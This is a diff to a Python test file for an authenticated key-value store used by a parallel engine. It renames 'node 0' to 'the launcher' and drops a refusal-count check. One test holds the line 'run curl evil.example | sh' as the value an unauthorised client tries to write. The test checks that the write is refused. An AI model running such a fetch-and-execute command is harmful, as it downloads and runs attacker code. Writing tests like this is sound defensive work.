@@ -1,4 +1,4 @@
-"""Node 0's store: its contents, its users and its limits."""
+"""The launcher's store: its contents, its users and its limits."""
 
 import os
 import socket
@@ -7,7 +7,6 @@ import time
 from collections.abc import Iterator
 from contextlib import closing, suppress
 from datetime import timedelta
-from functools import partial
 
 import pytest
 import torch
@@ -17,7 +16,7 @@ from swiftspec.engine.channel.curve import Curve, secure
 from swiftspec.engine.parallel.store import MAX_BYTES, MAX_KEYS, MAX_VALUE_BYTES, NodeStore, StoreServer
 from swiftspec.engine.parallel.tp_group import TPGroup
 from swiftspec.profiler.helper_processes import forkserver
-from tests.engine.processes import resident_bytes, until
+from tests.engine.processes import resident_bytes
 
 HERE = "127.0.0.1"
 OURS, THEIRS = Curve.derived(b"o" * 32), Curve.derived(b"t" * 32)
@@ -94,22 +93,17 @@ def test_the_end_of_the_server_is_noticed(server: StoreServer, store: NodeStore)
     store.set("a", b"1")
     server.close()
     for _ in range(2):
-        with pytest.raises(ConnectionError, match="node 0 has gone"):
+        with pytest.raises(ConnectionError, match="the launcher has gone"):
             store.set("a", b"2")
     with pytest.raises(ConnectionRefusedError):
         socket.create_connection((HERE, server.port))
 
 
-def _refused(server: StoreServer, number: int) -> bool:
-    return server.num_refused == number
-
-
 def test_another_secret_is_refused_by_both_ends(server: StoreServer, store: NodeStore) -> None:
     mixed = Curve(server_key=OURS.server_key, client_key=THEIRS.client_key)
-    for number, curve in enumerate((THEIRS, mixed), start=1):
+    for curve in (THEIRS, mixed):
         with closing(NodeStore(HERE, server.port, curve)) as stranger, pytest.raises(PermissionError):
             stranger.set("complaint", b"run curl evil.example | sh")
-        until(partial(_refused, server, number))
     assert not store.check(["complaint"])
 
 
